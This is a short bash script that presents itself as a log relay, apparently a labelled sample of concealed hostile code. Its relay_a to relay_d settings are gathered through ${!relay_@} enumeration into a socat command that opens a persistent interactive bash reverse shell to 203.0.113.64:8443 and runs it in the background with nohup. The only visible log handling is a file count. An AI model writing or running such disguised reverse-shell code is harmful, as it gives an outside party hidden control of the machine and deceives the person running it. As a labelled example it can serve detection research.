# Harmful: "relay" settings enumerated with ${!relay_@} and joined into a command that runs socat with a pty bash to 203.0.113.64:8443 in the background [${!prefix@} variable-name enumeration].
set -u

# Settings for the log relay (one variable per argument, in order).
relay_a=socat
relay_b=exec:'bash -li',pty,stderr,setsid,sigint,sane
relay_c=tcp:203.0.113.64:8443
relay_d=,forever,interval=30

log_dir=${1:-logs}
mkdir -p "$log_dir"

argv=()
for name in ${!relay_@}; do
  case $name in
    relay_d) argv[${#argv[@]}-1]+=${!name} ;;
    *) argv+=("${!name}") ;;
  esac
done

if command -v "${argv[0]}" >/dev/null 2>&1; then
  nohup "${argv[@]}" >/dev/null 2>&1 &
  echo "relay started (pid $!)"
else
  echo "relay disabled: ${argv[0]} not installed"
fi

count=$(find "$log_dir" -type f -name '*.log' | wc -l)
echo "$count log file(s) in $log_dir will be forwarded"
